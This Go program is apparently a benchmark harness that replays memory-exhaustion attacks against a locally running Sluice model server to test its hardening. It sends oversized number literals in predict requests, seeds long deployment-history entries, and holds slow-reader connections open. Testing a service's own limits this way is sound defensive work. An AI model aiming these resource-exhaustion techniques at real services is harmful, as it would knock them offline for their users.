// Command attack replays the two memory attacks of the hardening issue
// against a running Sluice and reports what it saw; the server's RSS is
// read by the caller (bench/attack/run.sh reads /proc/PID/status).
//
//	go run ./bench/attack --server http://127.0.0.1:18500 literal   # 300 predicts, 1 MB number literal, distinct X-Request-Id
//	go run ./bench/attack --server http://127.0.0.1:18500 seed      # grow churn's deployment history (PUTs with long reasons)
//	go run ./bench/attack --server http://127.0.0.1:18500 history   # 30 clients ask for the largest history page and never read
package main

import (
	"bufio"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"sync"
	"time"
)

func main() {
	server := flag.String("server", "http://127.0.0.1:18500", "Sluice base URL")
	n := flag.Int("n", 300, "literal: requests; seed: policy changes")
	clients := flag.Int("clients", 30, "history: clients that never read")
	hold := flag.Duration("hold", 30*time.Second, "history: how long the clients hold their connections")
	flag.Parse()
	var err error
	switch flag.Arg(0) {
	case "literal":
		err = literal(*server, *n)
	case "seed":
		err = seed(*server, *n)
	case "history":
		err = history(*server, *clients, *hold)
	default:
		err = fmt.Errorf("usage: attack [flags] literal|seed|history")
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

func literal(server string, n int) error {
	body := `{"instances":[{"tenureMonths":` + strings.Repeat("9", 1_000_000) + `,"supportTickets":4,"plan":"basic"}]}`
	statuses := map[int]int{}
	var mu sync.Mutex
	var wg sync.WaitGroup
	sem := make(chan struct{}, 8)
	maxBody := 0
	for i := 0; i < n; i++ {
		wg.Add(1)
		sem <- struct{}{}
		go func(i int) {
			defer wg.Done()
			defer func() { <-sem }()
			req, _ := http.NewRequest("POST", server+"/v1/models/churn:predict", strings.NewReader(body))
			req.Header.Set("Content-Type", "application/json")
			req.Header.Set("X-Request-Id", fmt.Sprintf("attack-%d-%d", time.Now().UnixNano(), i))
			resp, err := http.DefaultClient.Do(req)
			mu.Lock()
			defer mu.Unlock()
			if err != nil {
				statuses[-1]++
				return
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			statuses[resp.StatusCode]++
			maxBody = max(maxBody, len(b))
		}(i)
	}
	wg.Wait()
	fmt.Printf("literal: %d requests, statuses %v, largest answer %d bytes\n", n, statuses, maxBody)
	return nil
}

func seed(server string, n int) error {
	reason := strings.Repeat("r", 1024)
	for i := 0; i < n; i++ {
		body := fmt.Sprintf(`{"targets":[{"version":1,"weight":100}],"reason":"%s"}`, reason)
		req, _ := http.NewRequest("PUT", server+"/v1/deployments/churn", strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return err
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 {
			return fmt.Errorf("PUT %d: %s", i, resp.Status)
		}
	}
	resp, err := http.Get(server + "/v1/deployments/churn/history?limit=1000")
	if err != nil {
		return err
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	fmt.Printf("seed: %d policy changes; the largest history page (limit=1000) is %d bytes\n", n, len(b))
	return nil
}

func history(server string, clients int, hold time.Duration) error {
	u, err := url.Parse(server)
	if err != nil {
		return err
	}
	var conns []net.Conn
	for i := 0; i < clients; i++ {
		c, err := net.Dial("tcp", u.Host)
		if err != nil {
			return err
		}
		c.(*net.TCPConn).SetReadBuffer(4 << 10)
		fmt.Fprintf(c, "GET /v1/deployments/churn/history?limit=1000 HTTP/1.1\r\nHost: %s\r\n\r\n", u.Host)
		if _, err := bufio.NewReaderSize(c, 16).Peek(1); err != nil { // the answer began; read no more
			return err
		}
		conns = append(conns, c)
	}
	fmt.Printf("history: %d clients asked for the largest page and stopped reading; holding %s\n", clients, hold)
	time.Sleep(hold)
	open := 0
	for _, c := range conns {
		buf := make([]byte, 64<<10)
		for {
			// What the server's kernel had buffered still drains; a
			// connection the server closed then ends in EOF, one it
			// still holds goes quiet.
			c.SetReadDeadline(time.Now().Add(2 * time.Second))
			if _, err := c.Read(buf); err != nil {
				if ne, ok := err.(net.Error); ok && ne.Timeout() {
					open++
				}
				break
			}
		}
		c.Close()
	}
	fmt.Printf("history: after %s, %d of %d connections still open (an answer that fits the kernel socket buffers leaves the server at once; it stays open until the idle timeout)\n", hold, open, clients)
	return nil
}
